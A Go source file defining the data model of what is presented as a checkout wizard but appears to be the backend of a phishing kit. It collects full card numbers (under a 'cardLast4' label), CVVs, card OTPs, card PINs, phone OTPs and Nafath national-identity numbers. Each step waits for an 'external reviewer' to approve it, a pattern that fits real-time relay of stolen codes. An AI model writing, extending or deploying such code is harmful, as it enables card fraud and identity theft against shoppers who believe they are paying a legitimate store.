package domain

import "time"

// Step is a custom type for the checkout wizard state machine ENUM.
type Step string

const (
	StepCart              Step = "cart"
	StepShipping          Step = "shipping"
	StepPayment           Step = "payment"
	StepCardOtp           Step = "card-otp"
	StepCardPin           Step = "card-pin"
	StepPhoneVerification Step = "phone-verification"
	StepPhoneOtp          Step = "phone-otp"
	StepNafath            Step = "nafath"
	StepAuthDialog        Step = "auth-dialog"
	StepSuccess           Step = "success"
)

// stepOrder is the linear progression through the wizard.
var stepOrder = []Step{
	StepCart,
	StepShipping,
	StepPayment,
	StepCardOtp,
	StepCardPin,
	StepPhoneVerification,
	StepPhoneOtp,
	StepNafath,
	StepAuthDialog,
	StepSuccess,
}

// index returns the position of the step in the wizard, or -1.
func (s Step) index() int {
	for i, step := range stepOrder {
		if step == s {
			return i
		}
	}
	return -1
}

// Valid reports whether s is a known wizard step.
func (s Step) Valid() bool {
	return s.index() >= 0
}

// Next returns the step that follows s in the wizard.
// ok is false for the terminal step and for unknown steps.
func (s Step) Next() (next Step, ok bool) {
	i := s.index()
	if i < 0 || i == len(stepOrder)-1 {
		return "", false
	}
	return stepOrder[i+1], true
}

// Prev returns the step that precedes s. The initial step has no
// predecessor.
func (s Step) Prev() (prev Step, ok bool) {
	i := s.index()
	if i <= 0 {
		return "", false
	}
	return stepOrder[i-1], true
}

// GatedSteps are the steps whose forward transition is driven by an
// external approval signal rather than by the shopper.
var GatedSteps = []Step{StepCardOtp, StepCardPin, StepPhoneOtp, StepNafath}

// Gated reports whether s requires external approval to advance.
func (s Step) Gated() bool {
	for _, g := range GatedSteps {
		if g == s {
			return true
		}
	}
	return false
}

// RecordKey returns the camelCase prefix used for this step's fields in
// the checkout record ("cardOtp" -> cardOtpData / cardOtpApproved / ...).
func (s Step) RecordKey() string {
	switch s {
	case StepCardOtp:
		return "cardOtp"
	case StepCardPin:
		return "cardPin"
	case StepPhoneOtp:
		return "phoneOtp"
	case StepNafath:
		return "nafath"
	}
	return ""
}

// ApprovalStatus is a custom type for the per-step approval ENUM.
// Only "pending" is ever written by the shopper side; "approved" and
// "rejected" are written exclusively by the external reviewer.
type ApprovalStatus string

const (
	ApprovalPending  ApprovalStatus = "pending"
	ApprovalApproved ApprovalStatus = "approved"
	ApprovalRejected ApprovalStatus = "rejected"
)

// Record is one checkout document in the remote store, keyed by visitor
// id. Writes are additive merges; a later partial write never erases
// fields written by an earlier step.
type Record map[string]any

// Approval reads the approval status for a step record key. An absent or
// non-string field reads as the empty status.
func (r Record) Approval(stepKey string) ApprovalStatus {
	v, ok := r[stepKey+"Approved"].(string)
	if !ok {
		return ""
	}
	return ApprovalStatus(v)
}

// String reads a top-level string field, or "" if absent.
func (r Record) String(key string) string {
	v, _ := r[key].(string)
	return v
}

// Clone returns a deep copy of the record. Subscribers receive clones so
// that concurrent merges cannot race with a callback still reading the
// snapshot.
func (r Record) Clone() Record {
	return Record(cloneValue(map[string]any(r)).(map[string]any))
}

func cloneValue(v any) any {
	switch t := v.(type) {
	case map[string]any:
		out := make(map[string]any, len(t))
		for k, val := range t {
			out[k] = cloneValue(val)
		}
		return out
	case []any:
		out := make([]any, len(t))
		for i, val := range t {
			out[i] = cloneValue(val)
		}
		return out
	default:
		return v
	}
}

// Merge applies an additive merge of patch into r. Nested maps are merged
// recursively; scalar and slice values are replaced. r is created lazily
// by the store on first write.
func (r Record) Merge(patch map[string]any) {
	for k, v := range patch {
		dst, dstOK := r[k].(map[string]any)
		src, srcOK := v.(map[string]any)
		if dstOK && srcOK {
			Record(dst).Merge(src)
			continue
		}
		r[k] = cloneValue(v)
	}
}

// --- Step payloads ---
//
// Each gated step has an explicit payload schema validated at the write
// boundary, rather than an arbitrary bag of fields, so concurrently
// evolving steps cannot silently collide.

// StepPayload is implemented by the per-step submission schemas.
type StepPayload interface {
	// Fields flattens the payload into record fields.
	Fields() map[string]any
}

// CardOtpPayload is the card OTP submission.
type CardOtpPayload struct {
	CardNumber  string
	CardName    string
	CVV         string
	Code        string
	SubmittedAt time.Time
}

func (p CardOtpPayload) Fields() map[string]any {
	return map[string]any{
		"cardLast4":   p.CardNumber,
		"cardName":    p.CardName,
		"cvv":         p.CVV,
		"cardOtp":     p.Code,
		"submittedAt": p.SubmittedAt.UTC().Format(time.RFC3339),
	}
}

// CardPinPayload is the card PIN submission.
type CardPinPayload struct {
	PIN         string
	SubmittedAt time.Time
}

func (p CardPinPayload) Fields() map[string]any {
	return map[string]any{
		"cardPin":     p.PIN,
		"submittedAt": p.SubmittedAt.UTC().Format(time.RFC3339),
	}
}

// PhoneOtpPayload is the phone OTP submission.
type PhoneOtpPayload struct {
	Phone       string
	Code        string
	Operator    string
	SubmittedAt time.Time
}

func (p PhoneOtpPayload) Fields() map[string]any {
	return map[string]any{
		"phone":       p.Phone,
		"phoneOtp":    p.Code,
		"operator":    p.Operator,
		"submittedAt": p.SubmittedAt.UTC().Format(time.RFC3339),
	}
}

// NafathPayload is the national-identity federated-login submission.
type NafathPayload struct {
	IdentityNumber string
	SubmittedAt    time.Time
}

func (p NafathPayload) Fields() map[string]any {
	return map[string]any{
		"nafadUsername": p.IdentityNumber,
		"submittedAt":   p.SubmittedAt.UTC().Format(time.RFC3339),
	}
}

// StepSubmission builds the merge patch for one gated-step submission:
// the payload itself, the currentStep marker, a submitted flag, and the
// pending approval field the external reviewer will later flip.
func StepSubmission(step Step, payload StepPayload, now time.Time) map[string]any {
	key := step.RecordKey()
	fields := payload.Fields()
	fields[key+"Submitted"] = true
	return map[string]any{
		"currentStep":     key,
		key + "Data":      fields,
		key + "Approved":  string(ApprovalPending),
		key + "Timestamp": now.UTC().Format(time.RFC3339),
		"timestamp":       now.UTC().Format(time.RFC3339),
	}
}

// ShippingInfo is the shipping form. It is the only checkout state that
// survives a reload, via the local persistence bridge.
type ShippingInfo struct {
	FullName    string `json:"fullName"`
	Phone       string `json:"phone"`
	City        string `json:"city"`
	District    string `json:"district,omitempty"`
	Street      string `json:"street,omitempty"`
	PostalCode  string `json:"postalCode,omitempty"`
	Sex         string `json:"sex,omitempty"`
	Nationality string `json:"nationality,omitempty"`
}

// PaymentInfo is the payment form. Never persisted locally.
type PaymentInfo struct {
	CardNumber string `json:"cardNumber"`
	CardName   string `json:"cardName"`
	ExpiryDate string `json:"expiryDate"`
	CVV        string `json:"cvv"`
}
